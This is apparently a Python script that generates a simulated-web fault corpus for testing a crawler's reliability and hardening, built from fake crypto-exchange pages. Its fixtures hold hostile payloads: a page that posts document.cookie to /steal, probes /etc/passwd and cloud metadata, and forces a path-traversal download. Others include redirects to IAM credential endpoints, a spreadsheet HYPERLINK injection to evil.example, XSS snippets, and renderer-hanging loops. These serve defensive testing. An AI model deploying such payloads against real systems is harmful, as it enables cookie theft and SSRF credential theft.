"""Write tests/corpora/faults: the fault corpus of the reliability suite (its files are committed).

Why a generator: the corpus holds a 10 MB page, 64 KiB of random bytes and a 25-hop
redirect chain that nobody should edit by hand; regenerate after changing a site here:

    .venv/bin/python tests/reliability/make_fault_corpus.py && .venv/bin/exscout simweb check tests/corpora/faults

Output is deterministic (seeded), so a regeneration without changes leaves git clean.
tests/corpora/faults/README.md says what each site is for.
"""

from __future__ import annotations

import json
import random
import shutil
from pathlib import Path
from typing import Any

root = Path(__file__).resolve().parents[2] / "tests" / "corpora" / "faults"
sites = root / "sites"


def w(path: str, data: str | bytes) -> None:
    p = sites / path
    p.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        p.write_text(data, encoding="utf-8")
    else:
        p.write_bytes(data)


def routes(host: str, obj: dict[str, Any]) -> None:
    w(f"{host}/_routes.json", json.dumps(obj, indent=2, ensure_ascii=False) + "\n")


def exchange_page(name: str, extra_head: str = "", extra_body: str = "", p2p: str = "/p2p/") -> str:
    return f"""<!DOCTYPE html>
<html lang="zh-CN">
<head>
<meta charset="utf-8">
<title>{name} 数字资产交易平台 - 比特币 以太坊 币币交易</title>
<meta name="description" content="{name} 提供币币交易、合约交易、法币交易（C2C）服务。">
{extra_head}
</head>
<body>
<header>
  <a href="/">{name}</a>
  <nav>
    <a href="/trade/BTC_USDT">币币交易</a>
    <a href="/futures">合约交易</a>
    <a href="{p2p}">法币交易 P2P</a>
    <a href="/markets">行情</a>
  </nav>
  <a href="/login">登录</a> <a href="/register">注册</a>
</header>
<main>
  <h1>安全、稳定、可信赖的数字资产交易平台</h1>
  <p>注册即可交易 BTC、ETH、USDT 等 200 多种数字资产。现货交易手续费低至 0.1%，支持杠杆与永续合约。</p>
  <h2>热门行情</h2>
  <table>
    <tr><th>交易对</th><th>最新价</th><th>24h 涨跌</th><th>24h 成交量</th></tr>
    <tr><td>BTC/USDT</td><td>67,512.30</td><td>+2.31%</td><td>1,203,442,110</td></tr>
    <tr><td>ETH/USDT</td><td>3,512.04</td><td>+1.05%</td><td>802,114,937</td></tr>
  </table>
  <h2>快捷买币</h2>
  <p>使用人民币（CNY）通过支付宝、微信支付、银行卡一键买入 USDT，商家担保，极速到账。</p>
  <p><a href="{p2p}">立即前往 C2C 法币交易区</a></p>
  {extra_body}
</main>
<footer>
  <a href="/terms.html">用户协议</a>
  <p>© 2026 {name} Ltd. 塞舌尔注册公司。风险提示：数字资产交易存在高风险，请谨慎投资。</p>
</footer>
</body>
</html>
"""


P2P = """<!DOCTYPE html>
<html lang="zh-CN"><head><meta charset="utf-8"><title>{name} C2C 法币交易 - 购买 USDT</title></head>
<body>
<h1>C2C 法币交易</h1>
<p>选择商家，使用人民币购买 USDT。支持支付宝、微信支付、银行卡转账。</p>
<table>
<tr><th>商家</th><th>单价 (CNY)</th><th>数量</th><th>限额</th><th>支付方式</th><th></th></tr>
<tr><td>金牌承兑商A</td><td>7.21</td><td>12,000 USDT</td><td>¥500 - ¥50,000</td><td>支付宝 微信 银行卡</td><td><a href="/login">购买</a></td></tr>
<tr><td>诚信商家B</td><td>7.22</td><td>8,500 USDT</td><td>¥100 - ¥20,000</td><td>支付宝 银行卡</td><td><a href="/login">购买</a></td></tr>
</table>
<p>发布广告成为商家 · 订单 · 申诉</p>
</body></html>
"""


HOSTILE = """<!DOCTYPE html>
<html lang="zh-CN"><head><meta charset="utf-8"><title>HostileApp</title></head>
<body><noscript>You need to enable JavaScript to run this app.</noscript><div id="app"></div>
<script>
window.__hostile = {popup: null, dialogs: [], download: null, fetches: {}, form: null, sw: null, perms: null};
var h = window.__hostile;
document.getElementById('app').innerHTML =
  '<h1>HostileApp 数字资产交易平台</h1><p>币币交易 合约交易 法币交易 C2C：支付宝 微信支付 人民币购买 USDT</p>';
try { var w = window.open('https://calm-exchange.com/?popup=1', '_blank'); h.popup = w ? 'opened' : 'blocked'; } catch (e) { h.popup = 'error ' + e; }
try { alert('hostile alert'); h.dialogs.push('alert returned'); } catch (e) { h.dialogs.push('alert error'); }
try { h.dialogs.push('confirm=' + confirm('hostile confirm?')); } catch (e) { h.dialogs.push('confirm error'); }
try { var a = document.createElement('a'); a.href = '/file.bin'; a.download = 'evil.sh'; document.body.appendChild(a); a.click(); h.download = 'clicked'; } catch (e) { h.download = 'error ' + e; }
function probe(name, url) {
  h.fetches[name] = 'pending';
  fetch(url).then(function (r) { h.fetches[name] = 'status ' + r.status; }, function (e) { h.fetches[name] = 'failed'; });
}
probe('file', 'file:///etc/passwd');
probe('loopback', 'http://127.0.0.1:9/');
probe('metadata', 'http://169.254.169.254/latest/meta-data/');
probe('private_name', 'https://intranet.ssrf-target.com/admin/');
probe('private_mirror', 'https://ssrf-target.com/');
probe('same_site', '/sw.js');
try { navigator.serviceWorker.register('/sw.js').then(function () { h.sw = 'registered'; }, function (e) { h.sw = 'refused'; }); } catch (e) { h.sw = 'unavailable'; }
try { navigator.permissions.query({name: 'geolocation'}).then(function (p) { h.perms = p.state; }); } catch (e) { h.perms = 'error'; }
setTimeout(function () {
  var f = document.createElement('form'); f.method = 'POST'; f.action = '/steal';
  var i = document.createElement('input'); i.name = 'cookie'; i.value = document.cookie; f.appendChild(i);
  document.body.appendChild(f);
  try { f.submit(); h.form = 'submitted'; } catch (e) { h.form = 'error ' + e; }
  var g = document.createElement('form'); g.method = 'POST'; g.action = '/steal?via=button';
  var b = document.createElement('button'); b.type = 'submit'; g.appendChild(b); document.body.appendChild(g);
  b.click(); h.form_button = 'clicked';
  var t = document.createElement('a'); t.href = 'https://calm-exchange.com/?popup=2'; t.target = '_blank';
  document.body.appendChild(t); t.click(); h.popup_link = 'clicked';
}, 300);
</script>
</body></html>
"""

hosts: dict[str, dict[str, Any]] = {}


def host(name: str, **rec: Any) -> None:
    hosts[name] = rec


def main() -> None:
    shutil.rmtree(sites, ignore_errors=True)
    # -- listing APIs -----------------------------------------------------------------------------------
    host("api.coingecko.com", a=["104.18.42.178"])
    host("api.coinpaprika.com", a=["104.18.20.236"])
    coingecko_page1 = [
        {
            "id": "calm",
            "name": '=HYPERLINK("http://evil.example/","Calm <script>alert(1)</script>")',
            "year_established": 2019,
            "country": "Seychelles",
            "description": "",
            "url": "https://calm-exchange.com/",
            "image": "",
            "has_trading_incentive": False,
            "trust_score": 7,
            "trust_score_rank": 3,
            "trade_volume_24h_btc": 1234.5,
        },
    ]
    w("api.coingecko.com/api/v3/exchanges.page1.json", json.dumps(coingecko_page1, ensure_ascii=False))
    HTML_ERROR = """<!DOCTYPE html>
<html><head><title>Attention Required! | Cloudflare</title></head>
<body><h1>Sorry, you have been blocked</h1><p>Error 1020: Access denied. Ray ID: 8f1e2d3c4b5a6978</p></body></html>
"""
    w("api.coingecko.com/error.html", HTML_ERROR)
    json_h = {"Content-Type": "application/json; charset=utf-8"}
    html_h = {"Content-Type": "text/html; charset=utf-8"}
    routes(
        "api.coingecko.com",
        {
            "/api/v3/exchanges?per_page=250&page=1": {
                "file": "api/v3/exchanges.page1.json",
                "headers": json_h,
            },
            "/api/v3/exchanges?per_page=250&page=2": {"file": "error.html", "headers": html_h},
            "/api/v3/exchanges": {"file": "error.html", "headers": html_h},
            "*": {"status": 404, "body": '{"error":"Incorrect path"}', "headers": json_h},
        },
    )
    w(
        "api.coinpaprika.com/error.html",
        """<html>
<head><title>502 Bad Gateway</title></head>
<body><center><h1>502 Bad Gateway</h1></center><hr><center>nginx</center></body>
</html>
""",
    )
    routes("api.coinpaprika.com", {"*": {"status": 502, "file": "error.html", "headers": html_h}})

    # -- controls ---------------------------------------------------------------------------------------
    host("calm-exchange.com", a=["43.128.60.1"])
    host("www.calm-exchange.com", a=["43.128.60.1"])
    w("calm-exchange.com/index.html", exchange_page("CalmEx"))
    w("calm-exchange.com/p2p/index.html", P2P.format(name="CalmEx"))
    w("www.calm-exchange.com/index.html", exchange_page("CalmEx"))
    w("www.calm-exchange.com/p2p/index.html", P2P.format(name="CalmEx"))

    # oldname-ex.com only redirects to steady-ex.net (a rebrand): the target joins the crawl.
    host("oldname-ex.com", a=["43.128.60.2"])
    routes("oldname-ex.com", {"*": {"status": 301, "headers": {"Location": "https://steady-ex.net/"}}})
    w("oldname-ex.com/index.html", "moved\n")
    host("steady-ex.net", a=["43.128.60.3"])
    w("steady-ex.net/index.html", exchange_page("SteadyEx"))
    w("steady-ex.net/p2p/index.html", P2P.format(name="SteadyEx"))

    host("plain-news.org", a=["43.128.60.4"])
    w(
        "plain-news.org/index.html",
        """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Plain News - crypto market commentary</title></head>
<body><h1>Plain News</h1>
<p>Weekly commentary on blockchain technology, regulation and research. We do not offer trading,
custody or any financial service; nothing here is investment advice.</p>
<article><h2>Layer-2 research notes</h2><p>Rollups compress transactions and post proofs to the base layer.
This week we look at data availability costs and how fee markets respond to demand.</p></article>
<article><h2>Regulation roundup</h2><p>Several jurisdictions published consultation papers on stablecoins.</p></article>
</body></html>
""",
    )

    # -- connection faults ------------------------------------------------------------------------------
    host("reset-fault.com", a=["43.128.61.1"])
    routes("reset-fault.com", {"*": {"fault": "reset"}})
    w("reset-fault.com/index.html", exchange_page("ResetEx"))

    host("hang-fault.com", a=["43.128.61.2"])
    routes("hang-fault.com", {"*": {"fault": "timeout"}})
    w("hang-fault.com/index.html", exchange_page("HangEx"))

    # simweb has no per-byte pacing: a 30-second trickle is "nothing for 30 s, then the page"
    host("trickle-fault.com", a=["43.128.61.3"])
    routes("trickle-fault.com", {"*": {"delay_ms": 30000}})
    w("trickle-fault.com/index.html", exchange_page("TrickleEx"))

    host("truncated-fault.com", a=["43.128.61.4"])
    routes("truncated-fault.com", {"*": {"fault": "truncate"}})
    w(
        "truncated-fault.com/index.html",
        exchange_page("TruncEx", extra_body="<p>" + "充值与提币 " * 400 + "</p>"),
    )

    # -- redirects --------------------------------------------------------------------------------------
    host("loop-fault.com", a=["43.128.62.1"])
    routes(
        "loop-fault.com",
        {
            "/": {"status": 302, "headers": {"Location": "/loop-a"}},
            "/loop-a": {"status": 302, "headers": {"Location": "/loop-b"}},
            "/loop-b": {"status": 302, "headers": {"Location": "/"}},
            "*": {"status": 302, "headers": {"Location": "/"}},
        },
    )
    w("loop-fault.com/index.html", exchange_page("LoopEx"))

    host("longchain-fault.com", a=["43.128.62.2"])
    chain = {}
    HOPS = 25
    for i in range(HOPS):
        src = "/" if i == 0 else f"/hop/{i}"
        chain[src] = {"status": 302, "headers": {"Location": f"/hop/{i + 1}"}}
    chain[f"/hop/{HOPS}"] = {"file": "index.html"}
    routes("longchain-fault.com", chain)
    w("longchain-fault.com/index.html", exchange_page("ChainEx"))

    # -- SSRF: names and redirects that lead to non-public addresses ------------------------------------
    CANARY = "SSRF-CANARY-7f3a9c: internal admin console, credentials: admin/hunter2"
    canary = f"<html><body><h1>{CANARY}</h1><p>法币交易 支付宝 币币交易</p></body></html>\n"
    host("intranet.ssrf-target.com", a=["10.20.30.40"])
    w("intranet.ssrf-target.com/index.html", canary)
    w("intranet.ssrf-target.com/admin/index.html", canary)
    host("ssrf-target.com", a=["10.20.30.41"])
    w("ssrf-target.com/index.html", canary)
    host("ssrf-redirect.com", a=["43.128.63.1"])
    routes(
        "ssrf-redirect.com",
        {"*": {"status": 302, "headers": {"Location": "http://intranet.ssrf-target.com/admin/"}}},
    )
    w("ssrf-redirect.com/index.html", "moved\n")
    host("ssrf-metadata.com", a=["43.128.63.2"])
    routes(
        "ssrf-metadata.com",
        {
            "*": {
                "status": 302,
                "headers": {"Location": "http://169.254.169.254/latest/meta-data/iam/security-credentials/"},
            }
        },
    )
    w("ssrf-metadata.com/index.html", "moved\n")
    host("ssrf-loopback.com", a=["127.0.0.1"])
    w("ssrf-loopback.com/index.html", canary)
    host("ssrf-mixed.com", a=["43.128.63.3", "192.168.1.10"])
    w("ssrf-mixed.com/index.html", canary)
    host("ssrf-v6.com", aaaa=["fd12:3456:789a::1"])
    w("ssrf-v6.com/index.html", canary)
    host("ssrf-cgnat.com", a=["100.64.12.34"])
    w("ssrf-cgnat.com/index.html", canary)
    # a healthy exchange whose mirror list names a domain on a private address
    host("ssrf-mirror.com", a=["43.128.63.4"])
    w(
        "ssrf-mirror.com/index.html",
        exchange_page(
            "MirrorEx",
            extra_body=(
                "<h2>备用域名</h2><p>如主站无法访问，请使用以下备用域名：</p>"
                '<ul><li><a href="https://ssrf-target.com/">ssrf-target.com</a></li></ul>'
            ),
        ),
    )
    w("ssrf-mirror.com/p2p/index.html", P2P.format(name="MirrorEx"))

    # -- size -------------------------------------------------------------------------------------------
    host("big-fault.com", a=["43.128.64.1"])
    line = "<p>" + "数字资产交易平台 " * 60 + "</p>\n"
    head = exchange_page("BigEx").split("</main>")[0]
    big = head.encode("utf-8")
    chunk = line.encode("utf-8")
    while len(big) < 10 * 1024 * 1024:
        big += chunk * 200
    w("big-fault.com/index.html", big + b"</main></body></html>\n")

    # -- content faults ---------------------------------------------------------------------------------
    host("malformed-fault.com", a=["43.128.65.1"])
    nested = "<div><span><table><tr><td>" * 3000
    w(
        "malformed-fault.com/index.html",
        "<!DOCTYPE html><html lang=zh-CN><head><meta charset=utf-8><title>Malformed <b>交易</title></title>\n"
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">\n'
        '<body><!-- an unclosed comment <p>\n--><p>币币交易 法币交易 <a href="/p2p/" <b>C2C</a>\n'
        + nested
        + "支付宝 微信支付 人民币 "
        + "<p><a href='http://[::1/'>bad ipv6</a><a href='ht!tp://x'>bad scheme</a>"
        "<a href='//%zz%/'>bad escape</a><img src=x onerror=alert(1)>\x00\x01\x02 NUL bytes "
        '<svg><script>alert(1)</script></svg><p attr="' + "A" * 100000 + '">long attribute\n'
        '<a href="/p2p/">法币交易 P2P</a></ta ble></html></html><html>',
    )
    w("malformed-fault.com/p2p/index.html", P2P.format(name="MalformedEx"))

    host("binary-fault.com", a=["43.128.65.2"])
    rng = random.Random(20261121)
    w("binary-fault.com/index.html", bytes(rng.randrange(256) for _ in range(64 * 1024)))
    routes("binary-fault.com", {"*": {"headers": {"Content-Type": "text/html; charset=utf-8"}}})

    host("charset-fault.com", a=["43.128.65.3"])
    gbk = exchange_page("CharsetEx").replace(
        '<meta charset="utf-8">',
        '<meta charset="utf-8"><meta http-equiv="Content-Type" content="text/html; charset=shift_jis">',
    )
    w("charset-fault.com/index.html", gbk.encode("gbk", "replace"))
    routes("charset-fault.com", {"*": {"headers": {"Content-Type": "text/html; charset=iso-8859-1"}}})
    w(
        "charset-fault.com/p2p/index.html",
        "\ufeff".encode("utf-16-le") + P2P.format(name="CharsetEx").encode("utf-16-le"),
    )

    # -- DNS faults -------------------------------------------------------------------------------------
    host("servfail-fault.com", rcode="SERVFAIL")
    host("dnstimeout-fault.com", rcode="TIMEOUT")

    # -- registry faults: RDAP answering 429 and 500 (their RIRs' RDAP hosts get a folder) ---------------
    host("rdap429-fault.com", a=["200.160.2.3"])
    w("rdap429-fault.com/index.html", exchange_page("RateLimitedEx"))
    w("rdap429-fault.com/p2p/index.html", P2P.format(name="RateLimitedEx"))
    host("rdap500-fault.com", a=["196.216.2.6"])
    w("rdap500-fault.com/index.html", exchange_page("RegistryDownEx"))
    w("rdap500-fault.com/p2p/index.html", P2P.format(name="RegistryDownEx"))
    host("rdap.lacnic.net", a=["200.3.14.10"])
    routes(
        "rdap.lacnic.net",
        {
            "*": {
                "status": 429,
                "headers": {"Retry-After": "1", "Content-Type": "application/rdap+json"},
                "body": '{"errorCode": 429, "title": "Too Many Requests"}',
            }
        },
    )
    w("rdap.lacnic.net/index.html", "rate limited\n")
    host("rdap.afrinic.net", a=["196.216.2.20"])
    routes(
        "rdap.afrinic.net",
        {
            "*": {
                "status": 500,
                "headers": {"Content-Type": "text/html"},
                "body": "<html><body><h1>500 Internal Server Error</h1></body></html>",
            }
        },
    )
    w("rdap.afrinic.net/index.html", "down\n")

    # -- browser faults: a page that hangs its renderer, and a hostile page for the hardened renderer ----
    host("jshang-fault.io", a=["43.128.66.1"])
    w(
        "jshang-fault.io/index.html",
        """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>HangApp</title>
<script src="/static/app.js"></script>
</head><body><noscript>You need to enable JavaScript to run this app.</noscript><div id="app"></div></body></html>
""",
    )
    w(
        "jshang-fault.io/static/app.js",
        "document.title = 'HangApp 交易';\nwhile (true) { /* the renderer never gets control back */ }\n",
    )
    # loops forever only after "load": navigation succeeds, then every evaluate (page.content()) blocks
    host("jsloop-fault.io", a=["43.128.66.3"])
    w(
        "jsloop-fault.io/index.html",
        """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>LoopApp</title>
<script src="/static/app.js"></script>
</head><body><noscript>You need to enable JavaScript to run this app.</noscript><div id="app"></div></body></html>
""",
    )
    w(
        "jsloop-fault.io/static/app.js",
        "window.addEventListener('load', function () {\n  document.getElementById('app').textContent = 'LoopApp 交易';\n  setTimeout(function () { while (true) { /* hung after load */ } }, 50);\n});\n",
    )
    # not seeded: allocates without bound; the renderer's heap cap must crash it quickly, not the machine
    host("jsmem-fault.io", a=["43.128.66.4"])
    w(
        "jsmem-fault.io/index.html",
        """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>MemApp</title></head>
<body><div id="app">MemApp</div>
<script>
window.addEventListener('load', function () {
  setTimeout(function () {
    var hoard = [];
    for (;;) { hoard.push(new Array(1 << 20).fill(hoard.length)); }
  }, 50);
});
</script></body></html>
""",
    )
    host("hostile-render.io", a=["43.128.66.2"])
    w("hostile-render.io/index.html", HOSTILE)
    w("hostile-render.io/file.bin", bytes(range(256)) * 64)
    routes(
        "hostile-render.io",
        {
            "/file.bin": {
                "file": "file.bin",
                "headers": {
                    "Content-Type": "application/octet-stream",
                    "Content-Disposition": "attachment; filename=../../evil.sh",
                },
            },
            "/steal": {"body": "<html><body>FORM-SUBMITTED</body></html>"},
            "/sw.js": {
                "body": "self.addEventListener('fetch', e => {});",
                "headers": {"Content-Type": "text/javascript"},
            },
        },
    )

    corpus = {
        "format": "simweb-corpus/1",
        "name": "faults",
        "seeds": [
            "calm-exchange.com",
            "oldname-ex.com",
            "plain-news.org",
            "reset-fault.com",
            "hang-fault.com",
            "trickle-fault.com",
            "truncated-fault.com",
            "loop-fault.com",
            "longchain-fault.com",
            "ssrf-redirect.com",
            "ssrf-metadata.com",
            "ssrf-loopback.com",
            "ssrf-mixed.com",
            "ssrf-v6.com",
            "ssrf-cgnat.com",
            "ssrf-mirror.com",
            "big-fault.com",
            "malformed-fault.com",
            "binary-fault.com",
            "charset-fault.com",
            "servfail-fault.com",
            "dnstimeout-fault.com",
            "rdap429-fault.com",
            "rdap500-fault.com",
            "jshang-fault.io",
            "hostile-render.io",
        ],
        "hosts": hosts,
        "networks": [
            {
                "cidr": "43.128.0.0/16",
                "asn": 132203,
                "as_name": "TENCENT-NET-AP-CN",
                "org": "Aceville Pte. Ltd.",
                "country": "SG",
                "rir": "apnic",
            },
            {
                "cidr": "104.16.0.0/13",
                "asn": 13335,
                "as_name": "CLOUDFLARENET",
                "org": "Cloudflare, Inc.",
                "country": "US",
                "rir": "arin",
            },
            {
                "cidr": "200.160.0.0/20",
                "asn": 22548,
                "as_name": "Núcleo de Inf. e Coord. do Ponto BR - NIC.BR",
                "org": "Núcleo de Inf. e Coord. do Ponto BR - NIC.BR",
                "country": "BR",
                "rir": "lacnic",
            },
            {
                "cidr": "200.3.12.0/22",
                "asn": 28000,
                "as_name": "LACNIC - Latin American and Caribbean IP address",
                "org": "Latin American and Caribbean IP address Regional Registry",
                "country": "UY",
                "rir": "lacnic",
            },
            {
                "cidr": "196.216.2.0/24",
                "asn": 33764,
                "as_name": "AFRINIC-ZA-JNB-AS",
                "org": "African Network Information Center",
                "country": "MU",
                "rir": "afrinic",
            },
        ],
    }
    (root / "corpus.json").write_text(
        json.dumps(corpus, indent=1, ensure_ascii=False) + "\n", encoding="utf-8"
    )


if __name__ == "__main__":
    main()
